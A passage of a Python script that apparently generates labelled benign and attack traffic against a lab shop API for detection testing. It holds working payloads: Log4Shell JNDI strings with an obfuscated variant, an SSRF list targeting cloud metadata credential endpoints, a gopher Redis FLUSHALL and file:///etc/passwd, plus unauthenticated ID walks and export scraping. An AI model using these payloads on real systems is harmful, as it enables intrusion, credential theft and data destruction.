    items.append(("GET", "/api/v1/products?q=${jndi:dns://10.77.0.250/a}", None,
                  {"User-Agent": "${${lower:j}ndi:${lower:l}dap://10.77.0.250/x}"}))
    rnd.shuffle(items)
    for m, p, body, hdrs in items:
        if time.time() > deadline:
            break
        c.req(m, p.replace(" ", "%20"), body, headers=hdrs)
        time.sleep(rnd.uniform(0.05, 0.4))


SSRF_URLS = ["http://169.254.169.254/latest/meta-data/iam/security-credentials/",
             "http://169.254.169.254/computeMetadata/v1/?recursive=true", "http://metadata.google.internal/",
             "http://127.0.0.1:8081/api/v1/admin/stats", "http://localhost:6379/", "http://127.0.0.1:22/",
             "http://10.0.0.5:9200/_cat/indices", "http://10.77.0.1:8081/", "http://192.168.1.1/admin",
             "http://[::ffff:127.0.0.1]/", "http://[::1]:80/", "http://2130706433/", "http://0x7f000001/",
             "http://0177.0.0.1/", "gopher://127.0.0.1:6379/_FLUSHALL", "file:///etc/passwd",
             "dict://127.0.0.1:11211/stats", "http://169.254.169.254.nip.io/", "http://127.1/"]


def atk_ssrf(c, rnd, U, deadline):
    accounts, _, _ = U
    _login_any(c, rnd, accounts)
    urls = list(SSRF_URLS)
    rnd.shuffle(urls)
    c.req("POST", "/api/v1/webhooks", {"url": "https://hooks.example.com/shop"})
    for u in urls:
        if time.time() > deadline:
            break
        time.sleep(rnd.uniform(0.2, 1.0))
        c.req("POST", "/api/v1/webhooks", {"url": u, "events": ["order.created"]})


def atk_auth_bypass(c, rnd, U, deadline):
    ids = rnd.sample(range(1, 301), 20) + list(range(s := rnd.randint(1, 280), s + 10))
    for rid in ids:
        if time.time() > deadline:
            break
        c.req("GET", "/api/v1/reports/%d" % rid, auth=False)
        time.sleep(rnd.uniform(0.1, 0.6))


def atk_export_scrape(c, rnd, U, deadline):
    accounts, _, _ = U
    _login_any(c, rnd, accounts)
    for i in range(8):
        if time.time() > deadline:
            break
        c.req("GET", "/api/v1/export?format=%s" % ("json" if i == 4 else "csv"))
        time.sleep(rnd.uniform(0.5, 2.0))


ATTACKS = {
    "credential-stuffing": (atk_credential_stuffing, "python-requests/2.31.0"),
    "account-takeover": (atk_account_takeover, "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 "
                                               "(KHTML, like Gecko) Chrome/118.0.0.0 Safari/537.36"),
    "bola-walk": (atk_bola_walk, "python-requests/2.28.1"),
    "lookup-oracle": (atk_lookup_oracle, "python-requests/2.31.0"),
    "low-and-slow": (atk_low_and_slow, "ShopApp/4.12.1 (iPhone; iOS 17.1; Scale/3.00)"),
    "injection-mix": (atk_injection_mix, "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0"),
    "ssrf-webhooks": (atk_ssrf, "curl/7.88.1"),
    "auth-bypass-reports": (atk_auth_bypass, "curl/7.88.1"),
    "export-scrape": (atk_export_scrape, "python-requests/2.31.0"),
}


def run_attack(a):
    U = load_users(a.users)
    fn, ua = ATTACKS[a.target]
    rnd = random.Random("%d-%s" % (a.seed, a.target))
    c = Client(a.server, a.addr, ua)
    fn(c, rnd, U, time.time() + a.duration)
    c.close()
    print(json.dumps({"name": a.target, "requests": c.n, "first": c.first,
                      "statuses": {str(k): v for k, v in c.statuses.items()}}))


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("mode", choices=["benign", "attack"])
    ap.add_argument("target", help="benign: comma-separated addresses; attack: attack name")
    ap.add_argument("--addr")
    ap.add_argument("--seed", type=int, required=True)
    ap.add_argument("--users", required=True)
    ap.add_argument("--duration", type=float, required=True)
    ap.add_argument("--server", default="10.77.0.1")
    a = ap.parse_args()
    (run_benign if a.mode == "benign" else run_attack)(a)


if __name__ == "__main__":
    sys.exit(main())
